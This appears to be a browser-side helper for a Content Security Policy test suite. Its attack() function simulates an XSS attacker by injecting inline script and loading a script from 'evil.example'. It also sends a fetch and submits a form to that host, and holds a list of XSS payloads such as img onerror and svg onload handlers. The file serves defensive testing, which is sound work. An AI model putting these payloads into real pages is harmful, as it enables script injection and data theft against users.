// Runs in the browser, on one of our pages; read as text by headers.test.ts.

const directives = new Set()

/** Puts in whatever an attacker would. */
async function attack() {
  document.addEventListener('securitypolicyviolation', ({ effectiveDirective }) => directives.add(effectiveDirective))
  document.body.insertAdjacentHTML('beforeend', markup.join(''))
  const inline = document.createElement('script')
  inline.text = 'window.ran = 1'
  const outside = Object.assign(document.createElement('script'), { src: 'https://evil.example/a.js' })
  document.body.append(inline, outside)
  document.head.append(Object.assign(document.createElement('base'), { href: 'https://evil.example/' }))
  await fetch('https://evil.example/').catch(() => undefined)
  const form = Object.assign(document.createElement('form'), { action: 'https://evil.example/', method: 'post' })
  document.body.append(form)
  form.submit()
}

/** What the policy has stopped so far. */
function stopped() {
  return {
    directives: [...directives].toSorted((one, other) => one.localeCompare(other)),
    ran: 'ran' in window,
    base: document.baseURI,
    at: location.href,
  }
}

const markup = [
  '<img src="https://evil.example/seen.png" onerror="window.ran = 1">',
  '<div style="position: fixed; inset: 0">covered</div>',
  '<style>form { display: none }</style>',
  '<link rel="stylesheet" href="https://evil.example/a.css">',
  '<iframe src="https://evil.example/"></iframe>',
  '<iframe srcdoc="&lt;script>parent.ran = 1&lt;/script>"></iframe>',
  '<video src="https://evil.example/"></video>',
  '<svg onload="window.ran = 1"></svg>',
]

/** What the browser makes of pages. */
function outlines(pages) {
  return pages.map((text) => {
    const read = new DOMParser().parseFromString(text, 'text/html')
    const all = [...read.querySelectorAll('*')]
    return {
      elements: all.map(({ tagName, attributes }) => [tagName, ...[...attributes].map(({ name }) => name)].join(' ')),
      texts: [...read.querySelectorAll('bdi, strong, h1')].map(({ textContent }) => textContent),
    }
  })
}

Object.assign(globalThis, { attack, stopped, outlines })
